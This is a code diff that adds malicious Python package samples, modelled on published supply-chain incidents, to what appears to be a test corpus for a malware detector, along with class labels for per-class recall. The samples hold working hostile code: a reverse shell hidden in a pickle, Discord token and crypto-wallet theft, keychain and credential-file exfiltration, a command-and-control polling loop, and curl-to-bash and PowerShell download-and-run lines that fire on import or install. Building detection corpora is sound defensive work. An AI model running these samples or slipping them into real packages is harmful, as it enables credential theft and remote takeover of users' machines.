@@ -46,6 +46,17 @@ def setup_module_level(body, name):
         f"\nfrom setuptools import setup\nsetup(name='{name}', version='1.0')\n"
 
 
+def _pickle_exec(code):
+    """Pickle bytes (as latin-1 text) whose loading calls exec(code)."""
+    import pickle
+
+    class _R:
+        def __reduce__(self):
+            return (exec, (code,))
+
+    return pickle.dumps(_R(), protocol=2).decode("latin-1")
+
+
 # (name, kind, {path: content}, pattern, write-up it follows)
 SAMPLES = [
     ("demo-w4sp", "sdist", {"setup.py": setup_module_level(
@@ -267,6 +278,108 @@ SAMPLES = [
         "    win32clipboard.CloseClipboard()\n    threading.Timer(1.0, _tick).start()\n"
         "threading.Timer(1.0, _tick).start()\n"},
      "clipboard watcher swapping Ethereum addresses, started by a timer at import", "clipboard hijackers"),
+
+    # --- third tuning batch (2026-11-30, helper "recall3"): other incidents than the held-out
+    # ones, for the weak classes (credential theft, exfiltration, download-write-run, runs on
+    # import, shady links); written after the third held-out batch was committed and measured.
+    ("demo-jarka", "wheel", {"demo_jarka/__init__.py":
+        "import os, subprocess, tempfile, urllib.request\n"
+        "def _pull(url, name):\n    dst = os.path.join(tempfile.gettempdir(), name)\n"
+        "    urllib.request.urlretrieve(url, dst)\n    return dst\n"
+        "def _boot():\n    jar = _pull('https://github.example.org/rel/JavaUpdater.jar', 'JavaUpdater.jar')\n"
+        "    subprocess.Popen(['java', '-jar', jar])\n_boot()\n"},
+     "a helper downloads a JAR to the temp dir, its caller runs it, on import",
+     "Kaspersky, gptplus / claudeai-eng JarkaStealer (2024)"),
+    ("demo-token-grab", "wheel", {"demo_token_grab/__init__.py":
+        "import os, re, glob, json, urllib.request\n"
+        "_HOOK = 'https://discord.com/api/webhooks/1200000000000000000/aGVsbG8td29ybGQtdG9rZW4'\n"
+        "def _find():\n    out = []\n"
+        "    for d in glob.glob(os.path.join(os.getenv('APPDATA', ''), '*cord*', 'Local Storage', 'leveldb', '*.ldb')):\n"
+        "        out += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', open(d, errors='ignore').read())\n    return out\n"
+        "def _send(msg):\n    urllib.request.urlopen(urllib.request.Request(_HOOK, data=json.dumps({'content': msg}).encode(), headers={'Content-Type': 'application/json'}))\n"
+        "_send('\\n'.join(_find()))\n"},
+     "Discord tokens read from leveldb files and sent by a helper to a webhook, on import",
+     "FortiGuard Labs, zlibxjson token grabber (2024)"),
+    ("demo-gs-decorator", "wheel", {"demo_gs_decorator/__init__.py":
+        "import functools, subprocess, requests\n"
+        "def _trace(fn):\n    @functools.wraps(fn)\n    def inner(*a, **k):\n"
+        "        subprocess.Popen('bash -c \"$(curl -fsSL https://gsocket.example.org/y)\"', shell=True)\n"
+        "        return fn(*a, **k)\n    return inner\n"
+        "requests.get = _trace(requests.get)\n"},
+     "requests.get wrapped on import so the first request fetches and runs a shell script",
+     "Socket, dbgpkg gsocket backdoor (2025)"),
+    ("demo-hf-pickle", "wheel", {"demo_hf_pickle/__init__.py":
+        "import os, pickle\n_cfg = pickle.load(open(os.path.join(os.path.dirname(__file__), 'weights.pkl'), 'rb'))\n",
+        "demo_hf_pickle/weights.pkl": _pickle_exec(
+            "import socket, subprocess, os\ns = socket.create_connection(('203.0.113.88', 4242))\n"
+            "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\nsubprocess.call(['/bin/sh', '-i'])\n")},
+     "a bundled pickle whose load opens a reverse shell, loaded on import",
+     "JFrog, malicious pickled models on a model hub (2024)"),
+    ("demo-cmd-poll", "wheel", {"demo_cmd_poll/__init__.py":
+        "import subprocess, threading, time, requests\n"
+        "def _poll():\n    while True:\n        job = requests.get('https://c2.example.org/job', timeout=10).json()\n"
+        "        res = subprocess.getoutput(job['cmd'])\n        requests.post('https://c2.example.org/res', data={'o': res})\n        time.sleep(30)\n"
+        "threading.Thread(target=_poll, daemon=True).start()\n"},
+     "command read from an HTTP reply and run through the shell, in a thread started on import",
+     "ESET, PyPI backdoors with remote command execution (2023)"),
+    ("demo-b64-to-file", "sdist", {"setup.py":
+        "import base64, os, subprocess, sys, tempfile\nfrom setuptools import setup\n"
+        "_S = '" + B64("import os\nos.system('curl -s http://203.0.113.90/s | sh')\n") + "'\n"
+        "p = os.path.join(tempfile.gettempdir(), 'stage.py')\n"
+        "with open(p, 'w') as f:\n    f.write(base64.b64decode(_S).decode())\n"
+        "subprocess.Popen([sys.executable, p])\n"
+        "setup(name='demo-b64-to-file', version='1.0')\n"},
+     "decoded stage written to a temp file and run with the interpreter at install",
+     "Phylum, W4SP-stealer droppers (2022)"),
+    ("demo-dl-helper-run", "sdist", {"setup.py":
+        "import os, urllib.request, subprocess\nfrom setuptools import setup\n"
+        "def fetch(u):\n    d = os.path.join(os.path.expanduser('~'), '.local', 'bin', 'svc')\n"
+        "    with urllib.request.urlopen(u) as r, open(d, 'wb') as o:\n        o.write(r.read())\n    os.chmod(d, 0o755)\n    return d\n"
+        "subprocess.Popen([fetch('http://203.0.113.91/svc')])\n"
+        "setup(name='demo-dl-helper-run', version='1.0')\n"},
+     "a helper downloads and marks a binary executable, the install script runs what it returns",
+     "FortiGuard Labs, PyPI droppers (2023)"),
+    ("demo-atomic-wallet", "wheel", {"demo_atomic_wallet/__init__.py":
+        "import os, shutil, tempfile, requests\n"
+        "_T = [os.path.join(os.getenv('APPDATA', ''), 'atomic', 'Local Storage', 'leveldb'),\n"
+        "      os.path.join(os.getenv('APPDATA', ''), 'Ledger Live'),\n      os.path.expanduser('~/.bitmonero')]\n"
+        "def _go():\n    for t in _T:\n        if os.path.isdir(t):\n"
+        "            z = shutil.make_archive(os.path.join(tempfile.gettempdir(), os.path.basename(t)), 'zip', t)\n"
+        "            requests.post('https://upload.example.org/u', files={'f': open(z, 'rb')})\n_go()\n"},
+     "Atomic, Ledger Live and Monero wallet folders zipped and uploaded on import",
+     "Checkmarx, wallet-stealer modules of PyPI stealers (2023)"),
+    ("demo-keychain", "sdist", {"setup.py":
+        "import subprocess, urllib.request\nfrom setuptools import setup\n"
+        "pw = subprocess.run(['security', 'find-generic-password', '-wa', 'Chrome'], capture_output=True).stdout\n"
+        "urllib.request.urlopen('http://203.0.113.92/k', data=pw)\n"
+        "setup(name='demo-keychain', version='1.0')\n"},
+     "the macOS keychain's Chrome Safe Storage password read and sent at install",
+     "SentinelOne, macOS stealers spread through package registries (2023)"),
+    ("demo-pypirc", "wheel", {"demo_pypirc/__init__.py":
+        "import os, requests\n"
+        "def _collect():\n    got = {}\n    for f in ('~/.pypirc', '~/.npmrc', '~/.netrc', '~/.docker/config.json', '~/.git-credentials'):\n"
+        "        p = os.path.expanduser(f)\n        if os.path.exists(p):\n            got[f] = open(p).read()\n    return got\n"
+        "requests.post('https://eo1x2y3z4.m.pipedream.net', json=_collect())\n"},
+     "package-registry, docker and git credential files sent to a request bin on import",
+     "Socket, registry-token stealers (2024)"),
+    ("demo-raw-http", "wheel", {"demo_raw_http/__init__.py":
+        "import os, socket, json\n"
+        "def _b():\n    d = json.dumps({'u': os.getenv('USER'), 'h': socket.gethostname(), 'env': dict(os.environ)}).encode()\n"
+        "    s = socket.create_connection(('203.0.113.93', 80))\n"
+        "    s.send(b'POST /i HTTP/1.0\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(d) + d)\n_b()\n"},
+     "environment and host sent in a hand-built HTTP request on a raw socket, on import",
+     "Checkmarx, dependency-confusion probes over raw sockets (2022)"),
+    ("demo-tinyurl", "sdist", {"setup.py":
+        "import os\nfrom setuptools import setup\n"
+        "os.system('curl -sL https://tinyurl.com/2p8k4x9z | bash')\n"
+        "setup(name='demo-tinyurl', version='1.0')\n"},
+     "shortened URL piped into bash at install",
+     "Phylum, shortener-hidden install scripts (2023)"),
+    ("demo-iwr-iex", "wheel", {"demo_iwr_iex/__init__.py":
+        "import subprocess, sys\nif sys.platform == 'win32':\n"
+        "    subprocess.Popen(['powershell', '-w', 'hidden', '-c', 'iwr -useb https://203.0.113.94/a.ps1 | iex'])\n"},
+     "PowerShell iwr | iex in a subprocess argument list on import",
+     "ESET, PyPI PowerShell downloaders (2023)"),
 ]
 
 # Which behaviour classes each sample exercises (per-class recall). Held-out samples carry
@@ -299,9 +412,18 @@ CLASSES = {
     "demo-thread-dropper": ["download-run", "import-time"], "demo-helper-chain": ["download-run", "import-time"],
     "demo-escaped-getattr": ["dynamic-access", "download-run", "import-time"],
     "demo-layer-loop": ["decode-run", "import-time"], "demo-clip-hijack": ["screen-capture", "import-time"],
+    "demo-jarka": ["download-run", "import-time"], "demo-token-grab": ["credential-theft", "exfiltration", "import-time"],
+    "demo-gs-decorator": ["download-run", "import-time"],
+    "demo-hf-pickle": ["non-source-payload", "reverse-shell", "import-time"],
+    "demo-cmd-poll": ["reverse-shell", "import-time"], "demo-b64-to-file": ["decode-run", "download-run"],
+    "demo-dl-helper-run": ["download-run"], "demo-atomic-wallet": ["credential-theft", "exfiltration", "import-time"],
+    "demo-keychain": ["credential-theft", "exfiltration"],
+    "demo-pypirc": ["credential-theft", "exfiltration", "shady-links", "import-time"],
+    "demo-raw-http": ["exfiltration", "beacon", "import-time"], "demo-tinyurl": ["shady-links", "download-run"],
+    "demo-iwr-iex": ["download-run", "shady-links", "import-time"],
 }
 
-BINARY_SUFFIXES = (".png", ".jpg", ".dll", ".pyc", ".exe", ".so", ".bin")
+BINARY_SUFFIXES = (".png", ".jpg", ".dll", ".pyc", ".exe", ".so", ".bin", ".pkl", ".pt")
 
 
 def to_bytes(path, content):
